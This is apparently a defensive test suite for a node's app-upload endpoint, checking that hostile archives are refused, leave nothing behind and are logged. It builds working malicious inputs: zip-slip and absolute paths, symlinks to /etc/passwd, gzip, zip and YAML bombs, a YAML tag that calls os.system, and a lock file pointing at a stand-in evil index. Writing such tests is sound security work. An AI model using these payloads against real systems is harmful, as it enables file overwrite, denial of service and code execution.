"""Hostile archives against a real node's upload: each is refused with a clear message, leaves nothing behind, and is
recorded in the audit log."""

# ruff: noqa: E501 - a case is easier to read on one line

from __future__ import annotations

import gzip
import io
import json
import os
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from pcloud.errors import PCloudError
from tests.node_process import NodeProcess, wait_until
from tests.unit.app.conftest import MANIFEST, make_tar, make_zip

APP = ("app.yaml", MANIFEST)
BASE = b"name: tiny\nversion: 1.0.0\n"


@pytest.fixture(scope="module")
def node(tmp_path_factory: pytest.TempPathFactory) -> Iterator[NodeProcess]:
    folder = tmp_path_factory.mktemp("archives")
    temporary = folder / "tmp"
    temporary.mkdir()
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("TMPDIR", str(temporary))
        with NodeProcess(folder / "node") as process:
            process.temporary = temporary  # type: ignore[attr-defined]
            yield process


@pytest.fixture(autouse=True)
def others_are_served(node: NodeProcess) -> Iterator[None]:
    """Whatever was uploaded, the node answers, and its disk holds no new files."""
    before = held(node)
    yield
    assert node.graphql("{ revision }")["revision"]
    assert held(node) == before
    assert node.status()["apps"] == []


def held(node: NodeProcess) -> set[str]:
    """Every file that an upload could leave: below the apps' folder, beside the node's, and in the temporary folder."""
    roots = [node.data / "apps", node.temporary, node.data.parent]  # type: ignore[attr-defined]
    found = {str(path) for root in roots[:2] for path in root.rglob("*")}
    return found | {str(path) for path in roots[2].iterdir()} | {name for name in os.listdir("/") if "evil" in name}


def upload(node: NodeProcess, data: bytes, path: str = "/apps?approve=all") -> tuple[str, str]:
    """Return code and message of the refusal."""

    async def send(client: Any) -> None:
        if path.startswith("/apps?"):
            async for _ in client.lines("POST", path, data=data):
                pass
        else:
            async with client._session.post(f"http://node{path}", data=data) as answer:
                told = await answer.json()
                assert "errors" in told, told
                error = told["errors"][0]
                raise PCloudError(json.dumps([error["extensions"]["code"], error["message"]]))

    with pytest.raises(PCloudError) as refused:
        node._with_client(send)
    if path.startswith("/apps?"):
        return refused.value.code, refused.value.message
    code, message = json.loads(refused.value.message)
    return code, message


def link(kind: bytes, aim: str = "/etc/passwd", name: str = "evil") -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, aim
    return info


def zip_link() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("app.yaml", MANIFEST)
        info = zipfile.ZipInfo("evil")
        info.external_attr = 0o120777 << 16
        archive.writestr(info, "/etc/passwd")
    return buffer.getvalue()


def overlapping_zip() -> bytes:
    """Many entries of the central directory that all point to the same compressed bytes (zbsm, David Fifield, 2019)."""
    one = make_zip([APP, ("zeros", bytes(20 * 2**20))])
    with zipfile.ZipFile(io.BytesIO(one)) as archive:
        start = archive.start_dir
    directory = one[start : one.index(b"PK\x05\x06", start)]
    entry = directory[directory.rindex(b"PK\x01\x02") :]
    entries = [entry[:46] + b"z%04d" % number + entry[51:] for number in range(2_000)]
    first = directory[: len(directory) - len(entry)]
    body = first + b"".join(entries)
    end = (
        b"PK\x05\x06"
        + bytes(4)
        + (2_001).to_bytes(2, "little") * 2
        + len(body).to_bytes(4, "little")
        + start.to_bytes(4, "little")
        + bytes(2)
    )
    return one[:start] + body + end


def lying_zip() -> bytes:
    data = bytearray(make_zip([APP, ("zeros", bytes(40_000))]))
    for place in (data.find((40_000).to_bytes(4, "little")), data.rfind((40_000).to_bytes(4, "little"))):
        data[place : place + 4] = (10).to_bytes(4, "little")
    return bytes(data)


def endless_gzip() -> bytes:
    """Two gigabytes of zeros in two megabytes: one piece, fully flushed so that it can be repeated many times. The
    checksum at the end is wrong, which a reader notices only after reading the whole bomb."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    piece = bytes(2**22)
    first, again = (packer.compress(piece) + packer.flush(zlib.Z_FULL_FLUSH) for _ in range(2))
    return first + again * 511 + packer.flush()


def gzip_of_gzips(depth: int = 6) -> bytes:
    data = make_tar([APP])
    for _ in range(depth):
        data = gzip.compress(data)
    return data


def with_manifest(text: bytes, *more: tuple[str, bytes]) -> bytes:
    return make_tar([("app.yaml", text), *more])


def billion_laughs() -> bytes:
    lines = [b"a: &a [x, x, x, x, x, x, x, x, x]"]
    lines += [f"{chr(98 + n)}: &{chr(98 + n)} [{', '.join(['*' + chr(97 + n)] * 9)}]".encode() for n in range(12)]
    return BASE + b"\n".join(lines)


def pax_path() -> bytes:
    """A plain name, and the real one in an extended header."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz", format=tarfile.PAX_FORMAT) as tar:
        for name, content in (APP, ("plain", b"1")):
            info = tarfile.TarInfo(name)
            info.size = len(content)
            if name == "plain":
                info.pax_headers = {"path": "../../evil"}
            tar.addfile(info, io.BytesIO(content))
    return buffer.getvalue()


SCHEMA = BASE + b"schema: schema.graphql\n"
HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    "zip-slip in a tar": (lambda: make_tar([APP, ("../../evil", b"1")]), "'../../evil'"),
    "zip-slip in a zip": (lambda: make_zip([APP, ("a/../../evil", b"1")]), "a/../../evil"),
    "zip-slip by backslashes": (lambda: make_zip([APP, ("a\\..\\..\\evil", b"1")]), "evil"),
    "zip-slip by an extended header": (pax_path, "evil"),
    "an absolute path": (lambda: make_tar([APP, ("/evil", b"1")]), "/evil"),
    "an absolute path in a zip": (lambda: make_zip([APP, ("/evil", b"1")]), "/evil"),
    "a drive": (lambda: make_zip([APP, ("C:/evil", b"1")]), "C:/evil"),
    "a symbolic link": (lambda: make_tar([APP, link(tarfile.SYMTYPE)]), "a symbolic link to '/etc/passwd'"),
    "a link, then a file through it": (lambda: make_tar([APP, link(tarfile.SYMTYPE, "/", "out"), ("out/evil", b"1")]), "symbolic link"),
    "a symbolic link in a zip": (zip_link, "a symbolic link"),
    "a hard link": (lambda: make_tar([APP, link(tarfile.LNKTYPE)]), "a hard link"),
    "a hard link to the manifest": (lambda: make_tar([APP, link(tarfile.LNKTYPE, "app.yaml")]), "a hard link"),
    "a device": (lambda: make_tar([APP, link(tarfile.BLKTYPE, "")]), "a device"),
    "a character device": (lambda: make_tar([APP, link(tarfile.CHRTYPE, "")]), "a device"),
    "a fifo": (lambda: make_tar([APP, link(tarfile.FIFOTYPE, "")]), "a named pipe"),
    "a kind of the future": (lambda: make_tar([APP, link(b"Z", "")]), "unknown type"),
    "a gzip bomb": (endless_gzip, "bomb"),
    "a bomb in a tar": (lambda: make_tar([APP, ("zeros", bytes(60 * 2**20))]), "bomb"),
    "a bomb in a zip": (lambda: make_zip([APP, ("zeros", bytes(60 * 2**20))]), "bomb"),
    "entries that overlap": (overlapping_zip, "bomb"),
    "a zip that lies about a size": (lying_zip, "can't be read"),
    "many members": (lambda: make_tar([APP, *((f"f{n}", b"") for n in range(21_000))]), "more than 20000 files"),
    "many members in a zip": (lambda: make_zip([APP, *((f"f{n}", b"") for n in range(21_000))]), "more than 20000 files"),
    "a deep folder": (lambda: make_tar([APP, ("/".join("d" * 60) + "/f", b"")]), "the archive's member"),
    "a long name": (lambda: make_tar([APP, ("x" * 5_000, b"")]), "the archive's member"),
    "gzip in gzip": (gzip_of_gzips, "can't be read"),
    "names that differ in case": (lambda: make_tar([APP, ("Read.me", b"1"), ("read.ME", b"2")]), "one name"),
    "names that differ in Unicode's form": (lambda: make_tar([APP, ("caf\u00e9", b"1"), ("cafe\u0301", b"2")]), "one name"),
    "a second manifest": (lambda: make_tar([APP, ("APP.YAML", BASE)]), "one name"),
    "the manifest twice": (lambda: make_tar([APP, ("app.yaml", BASE)]), "one name"),
    "a file that is a folder too": (lambda: make_tar([APP, ("a", b"1"), ("a/b", b"2")]), "one name"),
    "a name with a line end": (lambda: make_tar([APP, ("a\nb", b"1")]), "the archive's member"),
    "a name that turns around": (lambda: make_tar([APP, ("\u202eyp.live", b"1")]), "the archive's member"),
    "truncated": (lambda: make_tar([APP, ("a", os.urandom(5_000))])[:-2_000], "gzip is broken"),
    "a truncated zip": (lambda: make_zip([APP, ("a", os.urandom(5_000))])[:-100], "neither"),
    "trailing data": (lambda: gzip.compress(gzip.decompress(make_tar([APP])) + b"#!/bin/sh\nevil"), "damaged at byte"),
    "a second tar behind the first": (lambda: gzip.compress(gzip.decompress(make_tar([APP])) + gzip.decompress(make_tar([APP]))), "damaged at byte"),
    "a program": (lambda: b"\x7fELF" + bytes(1_000), "neither"),
    "a picture": (lambda: b"\xff\xd8\xff\xe0" + bytes(1_000), "neither"),
    "a bare tar": (lambda: gzip.decompress(make_tar([APP])), "neither"),
    "nothing in it": (lambda: make_tar([]), "app.yaml"),
    "a huge manifest": (lambda: with_manifest(BASE + b"#" * (3 * 2**20)), "longer than"),
    "a huge schema": (lambda: with_manifest(SCHEMA, ("schema.graphql", b"type A { a: Int }\n" * 200_000)), "longer than"),
    "a large schema": (lambda: with_manifest(SCHEMA, ("schema.graphql", b"#" * 300_000)), "300000 bytes"),
    "a schema of too many types": (lambda: with_manifest(SCHEMA, ("schema.graphql", b"".join(b"type T%d { a: Int } " % n for n in range(500)))), "types"),
    "a schema nested without end": (lambda: with_manifest(SCHEMA, ("schema.graphql", b"type A { a: " + b"[" * 5_000 + b"Int" + b"]" * 5_000 + b" }")), "schema.graphql"),
    "a schema that names a core type": (lambda: with_manifest(SCHEMA, ("schema.graphql", b'extend type App @from(app: "core") { evil: String }')), "platform's own"),
    "a YAML bomb": (lambda: with_manifest(billion_laughs()), "app.yaml"),
    "a YAML alias": (lambda: with_manifest(b"name: &n tiny\nversion: 1.0.0\ntitle: *n\n"), "app.yaml"),
    "a YAML tag": (lambda: with_manifest(BASE + b'title: !!python/object/apply:os.system ["touch /evil"]\n'), "app.yaml"),
    "YAML nested without end": (lambda: with_manifest(BASE + b"title: " + b"[" * 20_000), "app.yaml"),
    "a manifest that is a list": (lambda: with_manifest(b"- name\n- tiny\n"), "app.yaml"),
    "a manifest of two documents": (lambda: with_manifest(BASE + b"---\n" + BASE), "app.yaml"),
    "a manifest that is not text": (lambda: with_manifest(b"\xff\xfe\x00name"), "UTF-8"),
    "a key twice": (lambda: with_manifest(BASE + b"name: other\n"), "app.yaml"),
    "a name that is a path": (lambda: with_manifest(b"name: ../evil\nversion: 1.0.0\n"), "app.yaml"),
    "a name of another script": (lambda: with_manifest("name: \u0440hotos\nversion: 1.0.0\n".encode()), "app.yaml"),
    "core's own name": (lambda: with_manifest(b"name: core\nversion: 1.0.0\n"), "core"),
    "the console's name": (lambda: with_manifest(b"name: console\nversion: 1.0.0\n"), "console"),
    "wrong types": (lambda: with_manifest(b"name: tiny\nversion: 1.0\nactions: yes\nrun: 5\n"), "app.yaml"),
    "an action in another's namespace": (lambda: with_manifest(BASE + b"actions:\n  - name: other/action\n"), "app.yaml"),
    "a trigger with another's action": (lambda: with_manifest(BASE + b"actions:\n  - name: a\ntriggers:\n  - name: t\n    on: {type: tiny/A, event: created}\n    action: photos/evil\n    replay: new\n"), "app.yaml"),
    "a schema outside": (lambda: with_manifest(BASE + b"schema: ../../../etc/passwd\n"), "app.yaml"),
    "a lock with an index": (lambda: make_tar([APP, ("requirements.lock", b"--index-url https://evil.test/simple\n")]), "requirements.lock"),
    "a lock with a folder": (lambda: make_tar([APP, ("requirements.lock", b"./evil.whl\n")]), "requirements.lock"),
}  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_attack_a_hostile_archive_is_refused_leaves_nothing_and_is_audited(node: NodeProcess, name: str) -> None:
    make, words = HOSTILE[name]
    data = make()
    for path in ("/apps/review", "/apps?approve=all"):
        code, message = upload(node, data, path)
        assert code in ("REJECTED", "CONFLICT", "FORBIDDEN"), (code, message)
        assert words in message, message
        assert "Traceback" not in message and len(message) < 2_000, message


def test_attack_refused_archives_stand_in_the_audit_log(node: NodeProcess) -> None:
    upload(node, make_tar([APP, link(tarfile.FIFOTYPE, "", "told-by-name")]))
    query = '{ audit(kind: "archive", first: 100) }'
    found = wait_until(
        lambda: [one for one in node.graphql(query)["audit"] if "told-by-name" in one["what"]],
        what="the audit line",
    )
    assert found[0]["outcome"] == "REJECTED" and found[0]["actor"]


def test_attack_a_body_beyond_the_bound_is_not_gathered(node: NodeProcess) -> None:
    async def send(client: Any) -> int:
        async def pieces() -> Any:
            for _ in range(600):
                yield bytes(2**20)

        try:
            async with client._session.post("http://node/apps/review", data=pieces()) as answer:
                return answer.status
        except (OSError, Exception):  # the connection is cut where the bound is
            return 413

    assert node._with_client(send) in (400, 413)


def test_attack_an_archive_named_by_a_path_is_not_found(node: NodeProcess) -> None:
    for name in ("../../node.key", "%2e%2e%2fcore", "0" * 64, "*", "a" * 5_000):
        code, message = upload(node, b"", f"/apps?approve=all&archive={name}")
        assert code in ("NOT_FOUND", "REJECTED") and str(Path(node.data)) not in message
